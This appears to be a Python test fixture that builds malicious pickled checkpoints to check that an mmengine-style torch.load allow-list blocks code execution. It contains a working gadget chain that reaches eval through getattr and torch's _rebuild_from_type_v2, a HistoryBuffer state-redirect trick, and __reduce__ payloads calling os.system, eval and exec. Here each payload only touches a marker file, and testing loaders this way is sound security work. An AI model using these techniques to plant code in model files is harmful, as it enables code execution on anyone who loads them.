"""Crafted checkpoints: pickles that try to run code while ``torch.load(weights_only=True)`` reads them.

Each writes a marker file if its payload ever runs. They sit where mmengine checkpoints hold data:
``meta``, ``message_hub`` and the optimizer state.
"""
import os

import torch
from mmengine.logging.history_buffer import HistoryBuffer
from torch._tensor import _rebuild_from_type_v2


class _Reduce:
    """Pickles as ``func(*args)``."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _attr(obj, name):
    return _Reduce(getattr, obj, name)


def _call(func, result_type, *args):
    # torch's allow-listed _rebuild_from_type_v2 calls any callable on the unpickler's stack.
    return _Reduce(_rebuild_from_type_v2, func, result_type, args, {})


def attribute_walk(code: str):
    """getattr from an allow-listed class to ``__builtins__['eval']``, then ``eval(code)``: ran a shell
    command through mmattn's old allow-list (``builtins.getattr`` plus ``HistoryBuffer``)."""
    func_globals = _attr(_attr(HistoryBuffer, 'min'), '__globals__')
    dict_type = _attr(func_globals, '__class__')
    lookup = _attr(func_globals, 'get')
    builtin_type = _attr(lookup, '__class__')
    builtins_dict = _call(lookup, dict_type, '__builtins__')
    evaluate = _call(_attr(builtins_dict, 'get'), builtin_type, 'eval')
    return _call(evaluate, dict_type, code)


class StatisticsRedirect:
    """A HistoryBuffer whose pickled statistics table points 'min' at an allow-listed rebuild function
    (``HistoryBuffer.__setstate__`` writes the table into the class, for every buffer)."""

    def __reduce__(self):
        return HistoryBuffer, (), {'statistics_methods': {'min': _rebuild_from_type_v2}}


def touch_code(marker: str) -> str:
    return f'__import__("pathlib").Path({marker!r}).touch()'


def payloads(marker: str) -> dict:
    """name -> payload object; unpickling any of them with code execution touches ``marker``."""
    return {
        'attribute_walk': attribute_walk(touch_code(marker)),
        'os_system': _Reduce(os.system, f'touch {marker}'),
        'builtins_eval': _Reduce(eval, touch_code(marker)),
        'builtins_exec': _Reduce(exec, touch_code(marker)),
        'import': _Reduce(__import__, 'os'),
    }


def checkpoint_with(payload, where: str, state_dict=None) -> dict:
    """An mmengine-like checkpoint holding ``payload`` in ``where`` (meta / message_hub / optimizer)."""
    ckpt = {
        'meta': {'epoch': 1, 'iter': 2, 'seed': 0},
        'state_dict': dict(state_dict or {'w': torch.zeros(2)}),
        'message_hub': {'log_scalars': {}, 'runtime_info': {'epoch': 1, 'iter': 2}, 'resumed_keys': {}},
        'optimizer': {'state': {0: {'step': torch.tensor(1.)}}, 'param_groups': [{'lr': 0.1, 'params': [0]}]},
    }
    if where == 'meta':
        ckpt['meta']['dataset_meta'] = payload
    elif where == 'message_hub':
        ckpt['message_hub']['log_scalars']['train/loss'] = payload
    elif where == 'optimizer':
        ckpt['optimizer']['state'][0]['exp_avg'] = payload
    else:
        raise ValueError(where)
    return ckpt


def write(path, payload, where='meta', state_dict=None) -> str:
    torch.save(checkpoint_with(payload, where, state_dict), str(path))
    return str(path)
